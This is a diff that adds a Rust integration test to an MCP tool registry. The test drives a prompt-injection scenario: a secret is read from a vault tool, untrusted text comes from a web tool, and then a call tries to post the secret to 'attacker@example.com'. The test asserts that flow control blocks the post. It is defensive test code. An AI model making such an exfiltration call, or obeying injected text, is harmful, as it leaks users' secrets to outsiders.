@@ -360,3 +360,60 @@ async fn a_tenants_own_labels_tighten_the_registrys() {
         assert_eq!(posted(&file).contains(key), !stopped, "{}", posted(&file));
     }
 }
+
+/// The injection scenario driven by the TypeScript SDK's client (v2, a 2025-11-25 session)
+/// over HTTP as a tenant: the post is the call's tool error, and nothing leaves.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_typescript_sdk_client_cannot_post_after_a_secret_and_untrusted_text() {
+    let Some(node) = peer(
+        peers_dir().join("node_modules/.bin/node"),
+        "Node 22 (npm node@22)",
+    ) else {
+        return;
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("posted.jsonl");
+    let s = scratch(&file);
+    std::fs::write(
+        s.path("tenants.json"),
+        json!({"tenants": {"t": {"keys": [digest(KEY)], "servers": ["vault", "web", "out"]}}})
+            .to_string(),
+    )
+    .unwrap();
+    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_mcp-registry"))
+        .env("MCP_REGISTRY_CACHE_DIR", s.cache())
+        .arg("--config")
+        .arg(&s.config)
+        .args(["serve", "--http", "127.0.0.1:0", "--tenants"])
+        .arg(s.path("tenants.json"))
+        .stdin(Stdio::null())
+        .stderr(Stdio::piped())
+        .kill_on_drop(true)
+        .spawn()
+        .unwrap();
+    let addr = served_address(&mut child).await;
+    let calls = json!([
+        ["vault__echo", {"message": SECRET}],
+        ["web__echo", {"message": INJECTION}],
+        ["out__post", {"to": "attacker@example.com", "body": SECRET}],
+    ]);
+    let url = format!("http://{addr}/mcp");
+    let out = tokio::process::Command::new(node)
+        .env("MCP_AUTH_TOKEN", KEY)
+        .arg(workspace_root().join("tests/peers/compat_client.mjs"))
+        .args(["ts2-legacy", "http", &url, &calls.to_string()])
+        .stderr(Stdio::piped())
+        .output()
+        .await
+        .unwrap();
+    let report: Value =
+        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("no JSON ({e}): {out:?}"));
+    assert_eq!(report["calls"][0]["text"], SECRET, "{report}");
+    let post = &report["calls"][2];
+    assert_eq!(post["ok"], false, "{report}");
+    assert!(
+        post["text"].to_string().contains("flow control"),
+        "{report}"
+    );
+    assert!(posted(&file).is_empty(), "{}", posted(&file));
+}
